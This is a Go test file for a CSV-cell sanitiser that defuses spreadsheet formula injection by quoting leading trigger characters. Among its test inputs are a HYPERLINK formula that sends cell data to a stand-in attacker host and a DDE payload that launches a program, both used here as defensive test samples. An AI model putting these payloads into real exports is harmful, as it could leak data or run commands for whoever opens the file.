package csvcell_test

import (
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/loyaltylinks/platform/shared/csvcell"
)

func TestText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Chrome", "Chrome"},
		{"Ana =1+1", "Ana =1+1"}, // a space separates no cells
		{"en-US", "en-US"},
		{"ção 漢字 🎉", "ção 漢字 🎉"},
		{"'already quoted", "'already quoted"},
		{"=1+2", "'=1+2"},
		{"-5", "'-5"},
		{"+1", "'+1"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\t=1+1", "'\t'=1+1"},
		{"\r=1+1", "'\r'=1+1"},
		{"x;=1+2", "x;'=1+2"},
		{"x,=1+2", "x,'=1+2"},
		{"x|@a", "x|'@a"},
		{"x\t-1", "x\t'-1"},
		{"x\n=1", "x\n'=1"},
		{"x\r\n+1", "x\r\n'+1"},
		{"x; =1", "x; '=1"},
		{`x;"=1+2"`, `x;"'=1+2"`},
		{`x; " =1`, `x; " '=1`},
		{"a;b;c", "a;b;c"},
		{"x;;=1", "x;;'=1"},
		{"x;", "x;"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	} {
		if got := csvcell.Text(c.in); got != c.want {
			t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestTextLeavesNoCellStartingAFormula: random texts made of triggers, separators,
// spaces, quotes and letters, read back by a spreadsheet splitting on each separator:
// no cell starts (after spaces and quotes) with a trigger, and Text only ever inserted
// single quotes.
func TestTextLeavesNoCellStartingAFormula(t *testing.T) {
	const alphabet = "=+-@\t\r,;|\n \"'ab"
	rng := rand.New(rand.NewPCG(3, 23))
	for range 20000 {
		b := make([]byte, rng.IntN(12))
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		in := string(b)
		out := csvcell.Text(in)
		for _, sep := range ",;|\t\r\n" {
			for _, cell := range strings.Split(out, string(sep)) {
				if c := strings.TrimLeft(cell, ` "`); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Fatalf("Text(%q) = %q: split on %q, the cell %q starts a formula", in, out, sep, cell)
				}
			}
		}
		if !onlyQuotesAdded(in, out) {
			t.Fatalf("Text(%q) = %q changed more than inserting quotes", in, out)
		}
	}
}

// onlyQuotesAdded reports whether out is in with single quotes inserted.
func onlyQuotesAdded(in, out string) bool {
	i := 0
	for j := 0; j < len(out); j++ {
		switch {
		case i < len(in) && out[j] == in[i]:
			i++
		case out[j] != '\'':
			return false
		}
	}
	return i == len(in)
}
